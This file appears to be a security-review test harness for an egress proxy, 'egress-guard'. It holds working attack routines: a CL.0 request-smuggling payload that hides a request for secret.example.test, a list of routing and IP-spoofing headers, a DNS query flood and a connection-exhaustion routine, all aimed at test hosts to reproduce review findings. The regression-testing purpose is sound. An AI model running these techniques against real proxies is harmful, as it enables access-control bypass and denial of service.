#!/usr/bin/env python3
"""review.py - issue 30's findings, driven as the outside review drove them.

  review.py upstream --listen IP:PORT --log FILE --ready FILE
      Python's own http.server (ThreadingHTTPServer, protocol HTTP/1.1, so
      kept alive) as the upstream the review used. It routes by Host like a
      virtual-host server and, like http.server's handlers usually do,
      reads a body only on POST and PUT (a GET's body is left unread). It
      logs one JSON line per request it PARSED: {"conn", "method", "path",
      "host", "headers": [[name, value], ...]}, and {"conn", "event":
      "close", "t"} (time.time()) when a connection ends. Paths:
        /slow?ms=N   the answer N ms late
        /reject      413 at once, the body left unread, connection kept
        other        200 "vhost=HOST path=PATH method=M"

  review.py desync --proxy IP:PORT --origin HOST:PORT [--method1 M]
      The review's CL.0 reproduction on one client connection: request 1
      `M1 http://ORIGIN/a` whose body is `POST /smug` for
      secret.example.test with a Content-Length equal to the length of
      the head the guard forwards for request 2; request 2 `GET
      http://ORIGIN/b`. Prints JSON {"status1", "reason1", "body1",
      "status2", "body2"} (status2 null when the connection closed).

  review.py reject --proxy IP:PORT --origin HOST:PORT
      The same with request 1 `POST /reject`, answered 413 before its body
      (the same smuggled `POST /smug`) is read.

  review.py routing --proxy IP:PORT --origin HOST:PORT
      One GET carrying every routing field and X-Keep. Prints the status.

  review.py pushed --proxy IP:PORT --origin HOST:PORT --policy FILE
                   --pid PID --new-policy FILE --path2 PATH --after S
      Request 1 `GET /a` (pools the upstream), then request 2 `GET PATH2`
      for ORIGIN2 (--origin2, default ORIGIN); S seconds after request 2
      is sent, NEW-POLICY replaces FILE and the guard gets SIGHUP. Prints
      JSON {"push_t", "status2", "body2"}.

  review.py dnsflood --server IP --name NAME --count N
      N UDP queries (TXT: answered by the guard itself, no upstream
      lookup) in batches of 50, each batch's answers awaited (1 s). Prints
      JSON {"sent", "answered", "seconds"}.

  review.py hold --proxy IP:PORT --count N --seconds S
      Opens N connections to the proxy and sends nothing, holds them S
      seconds. Prints how many connected.
"""
import argparse, http.server, json, os, random, signal, socket, struct, sys, \
    threading, time

SECRET = "secret.example.test"


# ------------------------------------------------------------ upstream
def upstream(a):
    lock = threading.Lock()
    log = open(a.log, "a", buffering=1)
    counter = [0]

    def write(o):
        with lock:
            log.write(json.dumps(o) + "\n")

    class H(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def setup(self):
            super().setup()
            with lock:
                self.conn_no = counter[0]
                counter[0] += 1

        def finish(self):
            try:
                super().finish()
            finally:
                write({"conn": self.conn_no, "event": "close", "t": time.time()})

        def log_message(self, *args):
            pass

        def answer(self, status, body):
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        def handle_any(self):
            host = self.headers.get("Host", "")
            write({"conn": self.conn_no, "method": self.command, "path": self.path,
                   "host": host, "headers": [[k, v] for k, v in self.headers.items()]})
            path = self.path.split("?", 1)[0]
            if path == "/reject":
                self.answer(413, b"rejected")
                return
            if self.command in ("POST", "PUT"):
                n = int(self.headers.get("Content-Length", "0") or 0)
                self.rfile.read(n)
            if path == "/slow":
                ms = int(self.path.split("ms=", 1)[1]) if "ms=" in self.path else 1000
                time.sleep(ms / 1000.0)
            self.answer(200, ("vhost=%s path=%s method=%s" % (
                host, self.path, self.command)).encode())

        do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = do_OPTIONS = \
            do_TRACE = do_PATCH = handle_any

    host, port = a.listen.rsplit(":", 1)
    srv = http.server.ThreadingHTTPServer((host, int(port)), H)
    srv.daemon_threads = True
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    with open(a.ready + ".tmp", "w") as f:
        f.write("ready\n")
    os.rename(a.ready + ".tmp", a.ready)
    srv.serve_forever()


# ------------------------------------------------------------ client side
class Conn:
    def __init__(self, proxy):
        h, p = proxy.rsplit(":", 1)
        self.s = socket.create_connection((h, int(p)), timeout=6)
        self.buf = b""

    def send(self, b):
        self.s.sendall(b)

    def fill(self):
        d = self.s.recv(65536)
        if not d:
            raise EOFError()
        self.buf += d

    def response(self):
        """One response: (status, headers dict lower-cased, body); None at EOF."""
        try:
            while b"\r\n\r\n" not in self.buf:
                self.fill()
        except (EOFError, OSError):
            return None
        head, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = head.decode("latin-1").split("\r\n")
        status = int(lines[0].split()[1])
        hd = {}
        for l in lines[1:]:
            k, _, v = l.partition(":")
            hd[k.strip().lower()] = v.strip()
        n = int(hd.get("content-length", "0"))
        try:
            while len(self.buf) < n:
                self.fill()
        except (EOFError, OSError):
            pass
        body, self.buf = self.buf[:n], self.buf[n:]
        return status, hd, body.decode("latin-1")


def fwd_head(method, origin, path):
    """The head the guard forwards for `METHOD http://ORIGIN/PATH` with
    only Host (docs/design.md, Absolute-form HTTP)."""
    host, port = origin.rsplit(":", 1)
    auth = host if port == "80" else origin
    return "%s %s HTTP/1.1\r\nHost: %s\r\nVia: 1.1 egress-guard\r\n\r\n" % (
        method, path, auth)


def req(method, origin, path, extra="", body=""):
    h = "%s http://%s%s HTTP/1.1\r\nHost: %s\r\n%s" % (method, origin, path, origin, extra)
    if body:
        h += "Content-Length: %d\r\n" % len(body)
    return (h + "\r\n" + body).encode()


def two(a, r1, r2):
    c = Conn(a.proxy)
    c.send(r1)
    x = c.response()
    out = {"status1": x and x[0], "reason1": x and x[1].get("x-egress-guard-reason"),
           "body1": x and x[2], "status2": None, "body2": None}
    if x is not None and x[1].get("connection", "").lower() != "close":
        try:
            c.send(r2)
            y = c.response()
        except OSError:
            y = None
        if y is not None:
            out["status2"], out["body2"] = y[0], y[2]
    print(json.dumps(out))


def smuggled(origin):
    """The review's smuggled request: a POST for the secret host whose body
    is the head the guard forwards next (request 2's), so the upstream
    answers nothing until request 2 arrives, and then answers it."""
    return "POST /smug HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (
        SECRET, len(fwd_head("GET", origin, "/b")))


def desync(a):
    two(a, req(a.method1, a.origin, "/a", body=smuggled(a.origin)),
        req("GET", a.origin, "/b"))


def reject(a):
    two(a, req("POST", a.origin, "/reject", body=smuggled(a.origin)),
        req("GET", a.origin, "/b"))


ROUTING = [("Forwarded", "host=%s;proto=https;for=127.0.0.1" % SECRET),
           ("X-Forwarded-Host", SECRET), ("X-Forwarded-Server", SECRET),
           ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Proto", "https"),
           ("X-Forwarded-Port", "443"), ("X-Forwarded-Prefix", "/admin"),
           ("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin"),
           ("X-Original-Host", SECRET), ("X-Host", SECRET),
           ("X-HTTP-Host-Override", SECRET), ("X-Real-IP", "127.0.0.1"),
           ("True-Client-IP", "127.0.0.1"), ("X-Client-IP", "127.0.0.1")]


def routing(a):
    extra = "".join("%s: %s\r\n" % kv for kv in ROUTING) + "X-Keep: kept\r\n"
    c = Conn(a.proxy)
    c.send(req("GET", a.origin, "/routing", extra))
    x = c.response()
    print(json.dumps({"status": x and x[0]}))


def pushed(a):
    c = Conn(a.proxy)
    c.s.settimeout(15)
    c.send(req("GET", a.origin, "/a"))
    x = c.response()
    if x is None or x[0] != 200:
        print(json.dumps({"error": "request 1: %r" % (x,)}))
        return
    c.send(req("GET", a.origin2 or a.origin, a.path2))
    time.sleep(a.after)
    os.rename(a.new_policy, a.policy)
    push_t = time.time()
    os.kill(a.pid, signal.SIGHUP)
    y = c.response()
    print(json.dumps({"push_t": push_t, "status2": y and y[0], "body2": y and y[2]}))


def dnsflood(a):
    qname = b"".join(bytes([len(l)]) + l.encode() for l in a.name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((a.server, 53))
    t0, sent, got = time.monotonic(), 0, 0
    while sent < a.count:
        n = min(50, a.count - sent)
        for _ in range(n):
            s.send(struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
                   + qname + struct.pack(">HH", 16, 1))
        sent += n
        for _ in range(n):
            try:
                s.recv(4096)
                got += 1
            except socket.timeout:
                break
    print(json.dumps({"sent": sent, "answered": got,
                      "seconds": round(time.monotonic() - t0, 3)}))


def hold(a):
    h, p = a.proxy.rsplit(":", 1)
    socks = []
    for _ in range(a.count):
        try:
            socks.append(socket.create_connection((h, int(p)), timeout=2))
        except OSError:
            break
    print(len(socks), flush=True)
    time.sleep(a.seconds)


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    u = sub.add_parser("upstream")
    u.add_argument("--listen", required=True)
    u.add_argument("--log", required=True)
    u.add_argument("--ready", required=True)
    for name in ("desync", "reject", "routing", "pushed"):
        p = sub.add_parser(name)
        p.add_argument("--proxy", required=True)
        p.add_argument("--origin", required=True)
        p.add_argument("--method1", default="GET")
        p.add_argument("--policy")
        p.add_argument("--new-policy")
        p.add_argument("--pid", type=int)
        p.add_argument("--origin2")
        p.add_argument("--path2", default="/b")
        p.add_argument("--after", type=float, default=0.3)
    d = sub.add_parser("dnsflood")
    d.add_argument("--server", required=True)
    d.add_argument("--name", required=True)
    d.add_argument("--count", type=int, default=1000)
    h = sub.add_parser("hold")
    h.add_argument("--proxy", required=True)
    h.add_argument("--count", type=int, required=True)
    h.add_argument("--seconds", type=float, required=True)
    a = ap.parse_args()
    {"upstream": upstream, "desync": desync, "reject": reject, "routing": routing,
     "pushed": pushed, "dnsflood": dnsflood, "hold": hold}[a.cmd](a)


if __name__ == "__main__":
    main()
